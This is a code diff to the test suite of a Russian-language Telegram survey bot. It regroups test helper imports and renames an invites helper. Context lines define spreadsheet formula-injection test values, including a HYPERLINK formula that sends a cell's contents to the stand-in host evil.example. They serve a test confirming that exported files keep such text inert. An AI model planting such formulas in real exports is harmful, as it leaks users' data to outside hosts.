@@ -15,11 +15,16 @@ import bot.jobs
 from storage.models import User
 from tests.conftest import BotEnv
 from tests.fakes import TgUser
-from tests.flows import register, settle
-from tests.test_diagnosis import answer_items, open_general
-from tests.test_events import staff_user
-from tests.test_reports import documents
-from tests.test_surveys import invites, launch
+from tests.flows import (
+    answer_items,
+    documents,
+    launch,
+    open_general,
+    register,
+    settle,
+    staff_user,
+    survey_invites,
+)
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"Открыть")\x01'
 HOSTILE_NOTE = "@SUM(A1:A9)\x07"
@@ -93,7 +98,7 @@ async def test_results_answers_and_indicators_files_keep_hostile_text_as_text(en
 
 
 async def answer(teacher: TgUser) -> None:
-    await teacher.click("▶️ Начать / продолжить", message=invites(teacher)[-1])
+    await teacher.click("▶️ Начать / продолжить", message=survey_invites(teacher)[-1])
     await teacher.click("▫️ Другое")
     await teacher.click("Дальше ➡️")
     await teacher.send(HOSTILE_ANSWER)
